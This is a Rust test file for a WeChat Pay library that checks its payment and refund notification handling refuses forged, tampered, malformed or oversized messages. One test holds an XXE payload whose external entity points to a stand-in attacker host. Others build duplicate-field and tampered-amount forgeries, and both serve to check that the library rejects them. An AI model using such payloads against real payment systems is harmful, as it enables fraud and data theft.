//! Every way a message must be refused, named by the outcome.

mod common;

use common::{merchant, notify_fields, params, signed_xml, with, KEY};
use wxpay::{sign, verify, xml, ApiKey, Error, Fen, Merchant, SignType};

fn notify_xml(fields: &[(&str, &str)]) -> String {
    signed_xml(fields, SignType::Md5)
}

fn key() -> ApiKey {
    ApiKey::new(KEY).unwrap()
}

// ---- signatures ---------------------------------------------------------------------------

#[test]
fn accepts_untouched_notify() {
    let n = merchant().verify_payment_notify(notify_xml(&notify_fields()).as_bytes()).unwrap();
    assert_eq!(n.out_trade_no, "20261123000001");
    assert_eq!(n.total_fee, Fen::new(1200));
}

#[test]
fn accepts_failed_payment_notify_without_transaction_fields_but_requires_them_on_success() {
    let failed: Vec<_> = with(&with(&notify_fields(), "result_code", "FAIL"), "err_code", "NOTENOUGH")
        .into_iter()
        .filter(|(k, _)| !matches!(*k, "transaction_id" | "time_end"))
        .collect();
    let n = merchant().verify_payment_notify(notify_xml(&failed).as_bytes()).unwrap();
    assert!(!n.is_success());
    assert_eq!((n.transaction_id.as_str(), n.time_end.as_str(), n.err_code.as_deref()), ("", "", Some("NOTENOUGH")));

    let paid_without_id: Vec<_> = notify_fields().into_iter().filter(|(k, _)| *k != "transaction_id").collect();
    let err = merchant().verify_payment_notify(notify_xml(&paid_without_id).as_bytes()).unwrap_err();
    assert_eq!(err.code(), "MISSING_FIELD", "{err}");
}

#[test]
fn rejects_tampered_value() {
    let body = notify_xml(&notify_fields()).replace("<total_fee>1200</total_fee>", "<total_fee>1</total_fee>");
    assert_eq!(merchant().verify_payment_notify(body.as_bytes()), Err(Error::SignatureMismatch));
}

#[test]
fn rejects_added_unknown_field() {
    // Fields we do not know are signed too: adding one breaks the signature.
    let body = notify_xml(&notify_fields()).replace("</xml>", "<coupon_fee>99</coupon_fee></xml>");
    assert_eq!(merchant().verify_payment_notify(body.as_bytes()), Err(Error::SignatureMismatch));
}

#[test]
fn rejects_tampered_sign() {
    let mut p = params(&notify_fields());
    let mut s = sign(&p, &key(), SignType::Md5);
    s.replace_range(0..1, if s.starts_with('0') { "1" } else { "0" });
    p.insert("sign".into(), s);
    assert_eq!(merchant().verify_payment_notify(xml::encode(&p).unwrap().as_bytes()), Err(Error::SignatureMismatch));
}

#[test]
fn rejects_wrong_key() {
    let other = Merchant::new(common::APPID, common::MCH_ID, ApiKey::new("0123456789abcdefABCDEF0123456789").unwrap());
    assert_eq!(other.verify_payment_notify(notify_xml(&notify_fields()).as_bytes()), Err(Error::SignatureMismatch));
}

#[test]
fn rejects_wrong_sign_type() {
    // Declared MD5, signed with HMAC-SHA256 over the same fields.
    let fields = with(&notify_fields(), "sign_type", "MD5");
    let body = signed_xml(&fields, SignType::HmacSha256);
    assert_eq!(merchant().verify_payment_notify(body.as_bytes()), Err(Error::SignatureMismatch));
}

#[test]
fn accepts_hmac_notify_without_sign_type_when_configured_md5() {
    let n = merchant().verify_payment_notify(signed_xml(&notify_fields(), SignType::HmacSha256).as_bytes()).unwrap();
    assert_eq!(n.sign_type, SignType::HmacSha256);
}

#[test]
fn rejects_missing_sign() {
    let body = xml::encode(&params(&notify_fields())).unwrap();
    assert_eq!(merchant().verify_payment_notify(body.as_bytes()), Err(Error::MissingSignature));
}

#[test]
fn rejects_unknown_sign_type() {
    let body = notify_xml(&with(&notify_fields(), "sign_type", "SHA1"));
    assert!(matches!(merchant().verify_payment_notify(body.as_bytes()), Err(Error::UnsupportedSignType(_))));
}

#[test]
fn rejects_lowercase_or_padded_signature_only_when_wrong() {
    let mut p = params(&notify_fields());
    let s = sign(&p, &key(), SignType::Md5);
    p.insert("sign".into(), s.to_lowercase());
    assert_eq!(verify(&p, &key(), SignType::Md5), Ok(SignType::Md5), "hex case carries no meaning");
    p.insert("sign".into(), format!("{s} "));
    assert_eq!(verify(&p, &key(), SignType::Md5), Err(Error::SignatureMismatch));
}

// ---- identity and amount ------------------------------------------------------------------

#[test]
fn rejects_wrong_appid() {
    let body = notify_xml(&with(&notify_fields(), "appid", "wx0000000000000000"));
    assert!(matches!(merchant().verify_payment_notify(body.as_bytes()), Err(Error::AppIdMismatch { .. })));
}

#[test]
fn rejects_wrong_mch_id() {
    let body = notify_xml(&with(&notify_fields(), "mch_id", "1900000109"));
    assert!(matches!(merchant().verify_payment_notify(body.as_bytes()), Err(Error::MchIdMismatch { .. })));
}

#[test]
fn rejects_notify_without_mch_id() {
    let fields: Vec<_> = notify_fields().into_iter().filter(|(k, _)| *k != "mch_id").collect();
    let err = merchant().verify_payment_notify(notify_xml(&fields).as_bytes()).unwrap_err();
    assert_eq!(err, Error::MissingField { name: "mch_id".into() });
}

#[test]
fn rejects_amount_mismatch() {
    let n = merchant().verify_payment_notify(notify_xml(&notify_fields()).as_bytes()).unwrap();
    assert_eq!(n.check_amount(Fen::new(1000)), Err(Error::AmountMismatch { expected: 1000, actual: 1200 }));
    assert_eq!(n.check_amount(Fen::new(1200)), Ok(()));
}

#[test]
fn rejects_float_amount() {
    // Correctly signed, but "1.00" is not an amount in fen.
    let body = notify_xml(&with(&notify_fields(), "total_fee", "1.00"));
    let err = merchant().verify_payment_notify(body.as_bytes()).unwrap_err();
    assert_eq!(err.code(), "INVALID_FIELD");
    assert!(err.to_string().contains("total_fee"), "{err}");
}

#[test]
fn rejects_float_negative_and_overflowing_amounts() {
    for bad in ["1.5", "1e3", "-1", "+1", " 1", "", "18446744073709551616", "０"] {
        assert!(matches!(bad.parse::<Fen>(), Err(Error::InvalidAmount { .. })), "{bad:?}");
    }
    assert_eq!("18446744073709551615".parse::<Fen>().unwrap().get(), u64::MAX);
    assert!(serde_json::from_str::<Fen>("100.0").is_err());
    assert!(serde_json::from_str::<Fen>("-5").is_err());
    assert_eq!(serde_json::from_str::<Fen>("\"42\"").unwrap(), Fen::new(42));
}

#[test]
fn reports_return_code_fail() {
    let body = "<xml><return_code>FAIL</return_code><return_msg><![CDATA[签名失败]]></return_msg></xml>";
    assert_eq!(merchant().verify_payment_notify(body.as_bytes()), Err(Error::ReturnFail { message: "签名失败".into() }));
}

// ---- XML ----------------------------------------------------------------------------------

#[test]
fn rejects_doctype() {
    let body = format!("<!DOCTYPE xml>{}", notify_xml(&notify_fields()));
    assert_eq!(merchant().verify_payment_notify(body.as_bytes()), Err(Error::DoctypeForbidden));
}

#[test]
fn rejects_external_entity_xxe() {
    let body = r#"<?xml version="1.0" encoding="utf-8"?><!DOCTYPE root [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">%remote;]><xml><return_code>SUCCESS</return_code></xml>"#;
    assert_eq!(merchant().verify_payment_notify(body.as_bytes()), Err(Error::DoctypeForbidden));
}

#[test]
fn rejects_nested_element() {
    let body = notify_xml(&notify_fields()).replace("<attach>", "<attach><x>1</x>");
    assert!(matches!(merchant().verify_payment_notify(body.as_bytes()), Err(Error::NestedElement { .. })));
}

#[test]
fn rejects_duplicate_key() {
    // The classic trick: a second total_fee that a last-one-wins parser would believe.
    let body = notify_xml(&notify_fields()).replace("</xml>", "<total_fee>1</total_fee></xml>");
    assert_eq!(merchant().verify_payment_notify(body.as_bytes()), Err(Error::DuplicateKey("total_fee".into())));
}

#[test]
fn rejects_oversized_body() {
    let pad = "x".repeat(xml::DEFAULT_MAX_SIZE);
    let body = notify_xml(&notify_fields()).replace("</xml>", &format!("<pad>{pad}</pad></xml>"));
    assert!(matches!(merchant().verify_payment_notify(body.as_bytes()), Err(Error::TooLarge { limit: xml::DEFAULT_MAX_SIZE, .. })));
    let small = xml::Decoder::new().max_size(20);
    assert!(matches!(small.decode(b"<xml><a>12345678</a></xml>"), Err(Error::TooLarge { size: 26, limit: 20 })));
    assert!(small.decode(b"<xml><a>1</a></xml>").is_ok());
}

#[test]
fn rejects_non_utf8() {
    let body = b"<xml><body>\xc4\xe3\xba\xc3</body></xml>"; // GBK, not UTF-8
    assert_eq!(xml::decode(body), Err(Error::NotUtf8 { offset: 11 }));
}

#[test]
fn refuses_to_encode_what_xml_cannot_carry() {
    assert!(matches!(xml::encode(&params(&[("a", "bell\u{7}")])), Err(Error::Unencodable(_))));
    assert!(matches!(xml::encode(&params(&[("1a", "x")])), Err(Error::Unencodable(_))));
    assert!(matches!(xml::encode(&params(&[("a b", "x")])), Err(Error::Unencodable(_))));
}

// ---- refund notify ------------------------------------------------------------------------

fn refund_vector() -> serde_json::Value {
    let path = format!("{}/tests/data/refund_notify.json", env!("CARGO_MANIFEST_DIR"));
    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

fn refund_body(req_info: &str) -> String {
    xml::encode(&params(&[
        ("return_code", "SUCCESS"),
        ("appid", common::APPID),
        ("mch_id", common::MCH_ID),
        ("nonce_str", "TeqClE3i0mvn3DrK"),
        ("req_info", req_info),
    ]))
    .unwrap()
}

fn b64(bytes: &[u8]) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

fn unb64(s: &str) -> Vec<u8> {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.decode(s).unwrap()
}

#[test]
fn accepts_refund_vector_with_our_merchant() {
    let v = refund_vector();
    let r = merchant().decrypt_refund_notify(refund_body(v["req_info"].as_str().unwrap()).as_bytes()).unwrap();
    assert_eq!(r.refund_fee, Fen::new(800));
}

#[test]
fn rejects_truncated_req_info() {
    let v = refund_vector();
    let full = v["req_info"].as_str().unwrap();
    for cut in [full.len() - 4, full.len() / 2, 24, 21] {
        let err = merchant().decrypt_refund_notify(refund_body(&full[..cut]).as_bytes()).unwrap_err();
        assert!(matches!(err, Error::TruncatedCiphertext { .. }), "cut at {cut}: {err:?}");
    }
}

#[test]
fn rejects_req_info_encrypted_with_another_key() {
    let v = refund_vector();
    let other = Merchant::new(common::APPID, common::MCH_ID, ApiKey::new("0123456789abcdefABCDEF0123456789").unwrap());
    let err = other.decrypt_refund_notify(refund_body(v["req_info"].as_str().unwrap()).as_bytes()).unwrap_err();
    assert_eq!(err, Error::DecryptKeyMismatch);
}

#[test]
fn rejects_req_info_with_bad_padding() {
    let v = refund_vector();
    let mut data = unb64(v["req_info"].as_str().unwrap());
    // Dropping the final block leaves a block of XML text where the padding should be.
    data.truncate(data.len() - 16);
    let err = merchant().decrypt_refund_notify(refund_body(&b64(&data)).as_bytes()).unwrap_err();
    assert_eq!(err, Error::BadPadding);
}

#[test]
fn rejects_tampered_req_info() {
    let v = refund_vector();
    let mut data = unb64(v["req_info"].as_str().unwrap());
    let n = data.len();
    data[n - 20] ^= 0x55; // inside the second-to-last block: its plaintext turns to noise
    let err = merchant().decrypt_refund_notify(refund_body(&b64(&data)).as_bytes()).unwrap_err();
    assert!(matches!(err, Error::NotUtf8 { .. } | Error::MalformedXml(_) | Error::NestedElement { .. }), "{err:?}");
}

#[test]
fn rejects_req_info_that_is_not_base64() {
    let err = merchant().decrypt_refund_notify(refund_body("not*base64!").as_bytes()).unwrap_err();
    assert_eq!(err, Error::InvalidBase64);
}

#[test]
fn reports_refund_notify_return_code_fail() {
    let body = "<xml><return_code>FAIL</return_code><return_msg>system busy</return_msg></xml>";
    let err = merchant().decrypt_refund_notify(body.as_bytes()).unwrap_err();
    assert_eq!(err, Error::ReturnFail { message: "system busy".into() });
}

#[test]
fn rejects_refund_notify_for_another_mch_id() {
    let v = refund_vector();
    let body = refund_body(v["req_info"].as_str().unwrap()).replace(common::MCH_ID, "1900000109");
    assert!(matches!(merchant().decrypt_refund_notify(body.as_bytes()), Err(Error::MchIdMismatch { .. })));
}

#[test]
fn rejects_refund_notify_without_req_info() {
    let body = "<xml><return_code>SUCCESS</return_code><appid>wx2421b1c4370ec43b</appid><mch_id>10000100</mch_id></xml>";
    assert_eq!(merchant().decrypt_refund_notify(body.as_bytes()), Err(Error::MissingField { name: "req_info".into() }));
}

// ---- keys ---------------------------------------------------------------------------------

#[test]
fn rejects_malformed_api_key_without_echoing_it() {
    for bad in ["short", "192006250b4c09247ec02edce69f6a2d0", "192006250b4c09247ec02edce69f6a2-"] {
        let err = ApiKey::new(bad).unwrap_err();
        assert!(!err.to_string().contains(bad), "{err}");
    }
    let m = merchant();
    assert!(!format!("{m:?}").contains(KEY));
}
